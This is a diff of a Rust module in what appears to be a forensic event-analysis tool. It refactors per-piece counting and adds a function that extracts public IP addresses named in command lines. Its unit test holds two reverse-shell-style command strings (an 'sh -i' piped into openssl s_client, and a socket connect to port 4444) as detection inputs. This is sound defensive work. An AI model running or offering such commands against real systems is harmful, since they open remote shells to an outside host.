@@ -1,126 +1,49 @@
 //! One piece while it is read: every event is matched and appended to columns in the same pass, everything is counted.
 
-use std::collections::{BTreeMap, BTreeSet};
+use std::collections::BTreeSet;
 use std::sync::Arc;
 
 use konseki_formats::text::longest_valid;
 use konseki_model::evidence::Zone;
 use konseki_model::{Because, Core, Entity, EntityKind, Event, Kind, Problem, Records, Sink};
-use konseki_store::{EventWriter, Origin};
+use konseki_store::{Keep, Origin};
 
 use crate::detect::{Detector, Match, Scratch};
-use crate::journal::{Correlated, Hit, Outcome};
+use crate::journal::{Correlated, Hit};
+use crate::tally::{ENTITIES, PLACES, Tally};
 
-/// Places kept for one folded hit.
-const PLACES: usize = 20;
-const ENTITIES: usize = 16;
 /// Longest excerpt, in bytes.
 pub const EXCERPT: usize = 2048;
-/// Different problems kept for one piece; further ones are counted in one line.
-const PROBLEMS: usize = 200;
-const HOUR: i64 = 3_600_000_000;
-const DAY: i64 = 24 * HOUR;
+const DAY: i64 = 86_400_000_000;
 
 /// Kinds whose events keep no excerpt: many, and their fields stand in the line as they are.
 fn keeps_excerpt(kind: Kind) -> bool {
     !matches!(kind, Kind::Other | Kind::Flow | Kind::Dns | Kind::Heartbeat | Kind::ProcessSeen | Kind::FileSeen)
 }
 
-/// Pieces found inside a piece: name and bytes.
-pub type Nested = Vec<(String, Vec<u8>)>;
-
-/// The sink of one piece.
-pub struct Sheet<'a> {
-    pub outcome: Outcome,
-    pub nested: Nested,
-    /// The first error of writing events; reading goes on only to find the end.
-    pub failed: Option<konseki_store::Error>,
-    evidence: &'a str,
-    source: &'static str,
-    source_index: usize,
+/// Whose events these are.
+pub struct Whose<'a> {
+    /// Evidence id.
+    pub evidence: &'a str,
+    pub source: &'static konseki_sources::Entry,
+    /// Its place in the list of sources.
+    pub index: usize,
     /// Shared, not copied, by every event that names none.
-    host: Arc<str>,
-    said_host: Option<Arc<str>>,
-    writer: &'a mut EventWriter,
+    pub host: Arc<str>,
+}
+
+/// The sink of one piece, or of one part of it.
+pub struct Sheet<'a> {
+    pub tally: Tally,
+    whose: &'a Whose<'a>,
+    keep: &'a mut dyn Keep,
     detector: &'a Detector,
     scratch: &'a mut Scratch,
-    hits: BTreeMap<(String, String, String, String, i64), Hit>,
-    hours: BTreeMap<String, BTreeMap<i64, u64>>,
-    last_hour: Option<(String, i64, u64)>,
-    problems: BTreeMap<(konseki_model::ProblemKind, String), Problem>,
-    more_problems: u64,
 }
 
 impl<'a> Sheet<'a> {
-    pub fn new(
-        evidence: &'a str,
-        source: &'static konseki_sources::Entry,
-        source_index: usize,
-        host: String,
-        writer: &'a mut EventWriter,
-        detector: &'a Detector,
-        scratch: &'a mut Scratch,
-    ) -> Self {
-        let outcome = Outcome { source: source.id.to_owned(), ..Outcome::default() };
-        Self {
-            outcome,
-            nested: Vec::new(),
-            failed: None,
-            evidence,
-            source: source.id,
-            source_index,
-            host: host.into(),
-            said_host: None,
-            writer,
-            detector,
-            scratch,
-            hits: BTreeMap::new(),
-            hours: BTreeMap::new(),
-            last_hour: None,
-            problems: BTreeMap::new(),
-            more_problems: 0,
-        }
-    }
-
-    /// The finished outcome (without hash and size) and the pieces found inside.
-    pub fn finish(mut self) -> (Outcome, Nested, Option<konseki_store::Error>) {
-        self.flush_hour();
-        self.outcome.host = self.said_host.as_ref().unwrap_or(&self.host).to_string();
-        self.outcome.hits = std::mem::take(&mut self.hits).into_values().collect();
-        self.outcome.hours = std::mem::take(&mut self.hours);
-        let mut problems: Vec<Problem> = std::mem::take(&mut self.problems).into_values().collect();
-        if self.more_problems > 0 {
-            let mut more = Problem::new(konseki_model::ProblemKind::Bound, None, "further problems of this piece, not listed one by one");
-            more.count = self.more_problems;
-            problems.push(more);
-        }
-        self.outcome.problems = problems;
-        (self.outcome, self.nested, self.failed)
-    }
-
-    fn flush_hour(&mut self) {
-        if let Some((host, hour, count)) = self.last_hour.take() {
-            *self.hours.entry(host).or_default().entry(hour).or_default() += count;
-        }
-    }
-
-    fn count_time(&mut self, event: &Event<'_>, host: &str) {
-        let Some(time) = event.time else { return };
-        let at = (time.micros, time.fidelity);
-        if self.outcome.first.is_none_or(|(first, _)| at.0 < first) {
-            self.outcome.first = Some(at);
-        }
-        if self.outcome.last.is_none_or(|(last, _)| at.0 > last) {
-            self.outcome.last = Some(at);
-        }
-        let hour = time.micros.div_euclid(HOUR);
-        match &mut self.last_hour {
-            Some((h, known, count)) if *known == hour && h == host => *count += 1,
-            _ => {
-                self.flush_hour();
-                self.last_hour = Some((host.to_owned(), hour, 1));
-            }
-        }
+    pub fn new(whose: &'a Whose<'a>, keep: &'a mut dyn Keep, detector: &'a Detector, scratch: &'a mut Scratch) -> Self {
+        Self { tally: Tally::default(), whose, keep, detector, scratch }
     }
 }
 
@@ -197,7 +120,33 @@ fn entities(event: &Event<'_>, host: &str) -> BTreeSet<Entity> {
     if let Some(kind) = object {
         add(kind, core.object, "object");
     }
+    for address in outside(core.command) {
+        add(EntityKind::Address, address, "to");
+    }
     all
+}
+
+/// Addresses on the Internet that a command names: it goes there.
+fn outside(command: &str) -> impl Iterator<Item = &str> {
+    let words = command.split(|c: char| !c.is_ascii_digit() && c != '.').map(|word| word.trim_matches('.'));
+    words.filter(|word| word.len() >= 7).filter(|word| {
+        word.parse::<std::net::Ipv4Addr>().is_ok_and(|four| {
+            let [first, second, ..] = four.octets();
+            let shared = first == 100 && (64..128).contains(&second);
+            !(four.is_private() || four.is_loopback() || four.is_link_local() || first == 0 || first >= 224 || shared)
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn a_command_names_where_it_goes() {
+        let named = |text| super::outside(text).collect::<Vec<_>>();
+        assert_eq!(named("sh -i | openssl s_client -connect 203.0.113.50:8443 >/tmp/p"), ["203.0.113.50"]);
+        assert_eq!(named("connect((\"198.51.100.9\",4444)) from 10.0.0.1"), ["198.51.100.9"]);
+        assert_eq!(named("setup.exe /v 6.1.7601.17514 127.0.0.1"), Vec::<&str>::new());
+    }
 }
 
 impl Sheet<'_> {
@@ -207,7 +156,7 @@ impl Sheet<'_> {
         let micros = event.time.map(|time| time.micros);
         let day = micros.map_or(i64::MIN, |micros| micros.div_euclid(DAY));
         let key = (found.engine.to_owned(), found.rule.clone(), host.to_owned(), actor.to_owned(), day);
-        let hit = self.hits.entry(key).or_insert_with(|| Hit {
+        let hit = self.tally.hits.entry(key).or_insert_with(|| Hit {
             engine: found.engine.to_owned(),
             rule: found.rule.clone(),
             host: host.to_owned(),
@@ -228,7 +177,7 @@ impl Sheet<'_> {
             let values: Vec<(&str, &str)> = found.values.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
             let (text, encoding) = excerpt(event, &values);
             hit.because.push(Because {
-                evidence: self.evidence.to_owned(),
+                evidence: self.whose.evidence.to_owned(),
                 path: String::new(),
                 at: event.at,
                 excerpt: text.to_owned(),
@@ -245,13 +194,13 @@ impl Sheet<'_> {
 
 impl Sink for Sheet<'_> {
     fn event(&mut self, event: &Event<'_>) {
-        if self.failed.is_some() {
+        if self.tally.failed.is_some() {
             return;
         }
-        let fallback = Arc::clone(self.said_host.as_ref().unwrap_or(&self.host));
+        let fallback = Arc::clone(self.tally.said_host.as_ref().unwrap_or(&self.whose.host));
         let host = if event.core.host.is_empty() { &*fallback } else { event.core.host };
-        self.count_time(event, host);
-        let (matches, correlated) = self.detector.event(self.source_index, event, self.scratch);
+        self.tally.time(event, host);
+        let (matches, correlated) = self.detector.event(self.whose.index, event, self.scratch);
         for found in &matches {
             self.take_match(event, host, found);
         }
@@ -259,7 +208,7 @@ impl Sink for Sheet<'_> {
         let (text, encoding) = if whole { excerpt(event, &[]) } else { (name_in_line(event), None) };
         if let (false, Some(time)) = (correlated.is_empty(), event.time) {
             let fields = self.detector.group_fields(event);
-            self.outcome.correlated.push(Correlated {
+            self.tally.outcome.correlated.push(Correlated {
                 rules: correlated,
                 micros: time.micros,
                 at: event.at,
@@ -269,41 +218,31 @@ impl Sink for Sheet<'_> {
                 fields,
             });
         }
-        let origin = Origin { evidence: self.evidence, source: self.source, host, raw: text };
-        if let Err(error) = self.writer.push(&origin, event) {
-            self.failed = Some(error);
+        let origin = Origin { evidence: self.whose.evidence, source: self.whose.source.id, host, raw: text };
+        if let Err(error) = self.keep.push(&origin, event) {
+            self.tally.failed = Some(error);
         }
     }
 
     fn problem(&mut self, problem: Problem) {
-        let key = (problem.kind, problem.text.clone());
-        if let Some(known) = self.problems.get_mut(&key) {
-            known.count += problem.count;
-            if let Some(bytes) = problem.bytes {
-                *known.bytes.get_or_insert(0) += bytes;
-            }
-        } else if self.problems.len() < PROBLEMS {
-            self.problems.insert(key, problem);
-        } else {
-            self.more_problems += problem.count;
-        }
+        self.tally.problem(problem);
     }
 
     fn records(&mut self, records: Records) {
-        self.outcome.records.add(&records);
+        self.tally.outcome.records.add(&records);
     }
 
     fn host(&mut self, host: &str) {
-        if self.said_host.is_none() && !host.is_empty() {
-            self.said_host = Some(host.into());
+        if self.tally.said_host.is_none() && !host.is_empty() {
+            self.tally.said_host = Some(host.into());
         }
     }
 
     fn zone(&mut self, zone: &str, basis: &str) {
-        self.outcome.zone = Zone { name: zone.to_owned(), basis: basis.to_owned() };
+        self.tally.outcome.zone = Zone { name: zone.to_owned(), basis: basis.to_owned() };
     }
 
     fn nested(&mut self, name: &str, bytes: Vec<u8>) {
-        self.nested.push((name.to_owned(), bytes));
+        self.tally.nested.push((name.to_owned(), bytes));
     }
 }
